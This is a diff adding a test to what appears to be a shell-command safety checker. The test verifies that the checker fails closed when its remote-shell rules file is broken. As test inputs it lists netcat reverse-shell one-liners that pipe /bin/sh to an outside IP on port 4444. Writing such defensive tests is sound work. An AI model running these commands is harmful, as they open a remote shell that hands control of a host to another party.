@@ -205,3 +205,17 @@ def test_an_existing_key_named_as_output_is_still_judged(workspace, home, env):
         f.write("-----BEGIN PRIVATE KEY-----\nx\n-----END PRIVATE KEY-----\n")
     d = judge("openssl pkey -in server.key -out server.key", workspace, home, env)
     assert d.decision == "deny", reasons(d)
+
+
+def test_a_broken_shapes_file_fails_closed(workspace, home, env, monkeypatch):
+    from interlock import knowledge
+    from interlock.analysis.shell import netshell
+
+    def broken():
+        raise knowledge.KnowledgeError("remote_shells.toml: broken")
+
+    monkeypatch.setattr(netshell, "model", broken)
+    for command in ("nc -e /bin/sh 198.51.100.9 4444", "cat f | sh -i | nc 198.51.100.9 4444",
+                    "python3 -c 'import socket'"):
+        d = judge(command, workspace, home, env)
+        assert d.decision in ("ask", "deny") and "interlock.error" in d.rules, (command, reasons(d))
